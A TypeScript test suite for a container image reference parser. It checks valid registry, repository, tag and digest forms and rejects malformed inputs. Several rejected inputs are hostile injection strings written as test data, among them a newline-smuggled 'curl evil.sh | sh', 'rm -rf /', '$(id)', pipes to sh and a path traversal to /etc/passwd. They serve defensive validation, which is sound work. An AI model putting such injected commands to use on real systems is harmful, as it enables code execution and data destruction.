import { InvalidInputError } from '#libs/errors';
import { formatImageReference, parseImageReference } from './image-reference.js';
import { isRegistryHost } from './reference-grammar.js';

const DIGEST = `sha256:${'a1'.repeat(32)}`;

describe('parseImageReference', () => {
  it.each([
    ['python', { repository: 'python' }],
    ['python:3.12', { repository: 'python', tag: '3.12' }],
    [
      'apache/openserverless-runtime-python:v3.12-2506091954',
      { repository: 'apache/openserverless-runtime-python', tag: 'v3.12-2506091954' },
    ],
    ['ghcr.io/a/b/c:Tag_1', { registry: 'ghcr.io', repository: 'a/b/c', tag: 'Tag_1' }],
    ['localhost/app', { registry: 'localhost', repository: 'app' }],
    ['localhost:5000/app:1', { registry: 'localhost:5000', repository: 'app', tag: '1' }],
    ['nuvolaris-registry-svc:5000/devel:python-abc', { registry: 'nuvolaris-registry-svc:5000', repository: 'devel', tag: 'python-abc' }],
    ['127.0.0.1:5000/x', { registry: '127.0.0.1:5000', repository: 'x' }],
    ['[::1]:5000/x', { registry: '[::1]:5000', repository: 'x' }],
    ['My-Registry.example.com/x', { registry: 'My-Registry.example.com', repository: 'x' }],
    ['org/a__b.c_d---e/f', { repository: 'org/a__b.c_d---e/f' }],
    [`busybox@${DIGEST}`, { repository: 'busybox', digest: DIGEST }],
    [`r.io/busybox:1.36@${DIGEST}`, { registry: 'r.io', repository: 'busybox', tag: '1.36', digest: DIGEST }],
    ['localhost:5000', { repository: 'localhost', tag: '5000' }],
  ])('accepts %s', (ref, expected) => {
    const parsed = parseImageReference(ref);
    expect(parsed).toEqual(expected);
    expect(formatImageReference(parsed)).toBe(ref);
  });

  it('accepts a reference of exactly 255 characters', () => {
    const ref = `r.io/${'a'.repeat(250)}`;
    expect(parseImageReference(ref).repository).toHaveLength(250);
  });

  it.each([
    ['', 'it is empty'],
    [`r.io/${'a'.repeat(251)}`, 'longer than 255'],
    ['python 3', 'whitespace'],
    ['python\n', 'whitespace'],
    ['python:3\nRUN curl evil.sh | sh', 'whitespace'],
    ['python\t', 'whitespace'],
    ['python\u0000', 'whitespace'],
    ['pyth\u00f6n', 'non-ASCII'],
    ['python:3;rm -rf /', 'whitespace'],
    ['python;rm', 'repository path component'],
    ['python$(id)', 'repository path component'],
    ['python`id`', 'repository path component'],
    ['python|sh', 'repository path component'],
    ['python&&id', 'repository path component'],
    ['python>out', 'repository path component'],
    ['Python', 'repository path component'],
    ['r.io/Apache/x', 'repository path component'],
    ['../etc/passwd', 'registry host'],
    ['x/../etc', 'repository path component'],
    ['a/../b', 'repository path component'],
    ['a//b', 'repository path component'],
    ['/a', 'repository path component'],
    ['a/', 'repository path component'],
    ['a..b', 'repository path component'],
    ['-a', 'repository path component'],
    ['a-', 'repository path component'],
    ['a___b', 'repository path component'],
    ['r.io/', 'repository path component'],
    ['python:', 'the tag'],
    ['python:.hidden', 'the tag'],
    ['python:-x', 'the tag'],
    ['python:a$b', 'the tag'],
    [`python:${'t'.repeat(129)}`, 'the tag'],
    ['python@sha256:abc', 'the digest'],
    [`python@md5:${'a'.repeat(64)}`, 'the digest'],
    [`python@sha256:${'A'.repeat(64)}`, 'the digest'],
    [`python@${DIGEST}@${DIGEST}`, "more than one '@'"],
    ['exa_mple.com/x', 'registry host'],
    ['-bad.com/x', 'registry host'],
    ['host:port/x', 'registry host'],
    ['host:123456/x', 'registry host'],
    [':5000/x', 'registry host'],
  ])('refuses %j (%s)', (ref, problem) => {
    expect(() => parseImageReference(ref)).toThrow(InvalidInputError);
    expect(() => parseImageReference(ref)).toThrow(problem);
  });

  it('names the field and echoes a short, printable excerpt', () => {
    const hostile = `x\nRUN evil ${'a'.repeat(300)}`;
    let message = '';
    try {
      parseImageReference(hostile, 'image');
    } catch (error) {
      message = (error as InvalidInputError).message;
      expect((error as InvalidInputError).reason).toBe('InvalidImageReference');
    }
    expect(message).toMatch(/^Invalid image image reference "x\?RUN evil a+\.\.\.": /);
    expect(message).not.toContain('\n');
    expect(message.length).toBeLessThan(200);
  });

  it('uses "source" as the default field name', () => {
    expect(() => parseImageReference('UPPER')).toThrow(/^Invalid source image reference "UPPER": /);
  });

  it('refuses a long pathological component without backtracking', () => {
    expect(() => parseImageReference(`${'a-'.repeat(120)}!`)).toThrow(InvalidInputError);
    expect(() => parseImageReference(`${'a'.repeat(250)}A`)).toThrow(InvalidInputError);
  });
});

describe('the one host grammar', () => {
  it('refuses a DNS label longer than 63 characters and a host longer than 255, in references too', () => {
    const long = `${'a'.repeat(64)}.example`;
    expect(isRegistryHost(`${'a'.repeat(63)}.example:5000`)).toBe(true);
    expect(isRegistryHost(long)).toBe(false);
    expect(isRegistryHost(`${'a.'.repeat(128)}io`)).toBe(false);
    expect(() => parseImageReference(`${long}/x`, 'source')).toThrow(InvalidInputError);
  });
});
